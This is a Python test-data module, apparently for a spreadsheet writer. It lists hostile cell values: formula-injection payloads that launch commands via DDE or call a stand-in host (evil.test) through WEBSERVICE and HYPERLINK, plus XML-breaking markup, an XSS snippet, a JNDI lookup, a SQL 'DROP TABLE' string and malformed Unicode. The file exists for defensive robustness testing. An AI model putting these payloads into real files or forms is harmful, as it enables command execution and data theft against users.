"""Strings that break tables: whatever a stranger may type into a form, it must stay text and leave the file readable."""

_STARTS = ["=", "+", "-", "@", "\t=", "\n=", "\r=", " =", "'=", "＝", "=-", "=+", "=@", "{=", "|"]
_FORMULAS = [
    "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.test";"тут")', "SUM(A1:A9)", "A1", 'WEBSERVICE("http://evil.test")',
    "IMPORTXML(1)", "DDE()", "2+5+cmd|' /C calc'!A0", "ИНДЕКС(A:A;1)",
]  # fmt: skip
_MARKUP = [
    '<c r="A1"><v>1</v></c>', "</t></is></c></row></sheetData>", "<![CDATA[x]]>", "]]>", "<!-- x -->", "<?xml version='1.0'?>",
    "&amp;", "&#0;", "&#x41;", "&lt;script&gt;", "<script>alert(1)</script>", "&", "<", ">", '"', "'", "&nbsp;", '<row r="2"/>',
    "{{7*7}}", "${jndi:ldap://x}", "%s%s%n", "'; DROP TABLE orders; --", "\\", "\\n", "//", "C:\\temp\\", "http://a.test/?a=1&b=2",
]  # fmt: skip
_ESCAPES = [
    "_x0041_",
    "_x000D_",
    "_x005F_",
    "_x0000_",
    "_xFFFF_",
    "_X0041_",
    "_x41_",
    "__x0041__",
    "_x005F_x0041_",
    "_x",
    "_xD83D_",
]
_SPACES = [
    " ",
    "  ",
    "\t",
    "\n",
    "\r",
    "\r\n",
    " края ",
    "\n\nстроки\n",
    "а\tб",
    "а\rб",
    "\u00a0",
    "\u2028",
    "\u2029",
    "\u200b",
    "\ufeff",
    "\u3000",
    "\x85",
]
_NUMBERS = [
    "00123", "+79001234567", "1e5", "1E400", "1,5", "1.5", "12/31/2025", "05.02.2025", "1-2", "TRUE", "ИСТИНА", "#REF!",
    "#N/A", "NaN", "Infinity", "-0", "0x41", "1_000", "½", "٣",
]  # fmt: skip
_SCRIPTS = [
    "😀", "👨‍👩‍👧‍👦", "🏳️‍🌈", "é", "e\u0301", "Ω", "مرحبا", "\u202eабв", "\u2066x\u2069", "שלום", "한국어", "日本語", "ไทย", "𝕏", "\U0010ffff", "\U0001f1f7\U0001f1fa",
    "Ёлка", "і", "ў", "\ufffd", "\ue000", "Z̴͇͝a̶l̷g̸o̵", "ﷺ", "ß", "İ", "ı", "ǆ", "ﬁ", "\u0600", "\u00ad",
]  # fmt: skip
_LONG = ["ж" * 32_767, "x" * 32_767, "<" * 5_000, "&" * 5_000, "_x0041_" * 1_000, "\n" * 1_000, "😀" * 16_383]

HOSTILE: list[str] = [
    *(start + formula for start in _STARTS for formula in _FORMULAS),
    *_STARTS, *_MARKUP, *_ESCAPES, *_SPACES, *_NUMBERS, *_SCRIPTS, *_LONG,
]  # fmt: skip
"""Strings that a cell can hold."""

IMPOSSIBLE: list[str] = [
    *(chr(code) for code in range(32) if chr(code) not in "\t\n\r"),
    "\ud800", "\udfff", "а\ud83dб", "\ufffe", "\uffff", "имя\uffff", "ж" * 32_768, "😀" * 16_384,
]  # fmt: skip
"""Strings that no workbook can hold: refused before anything is written."""
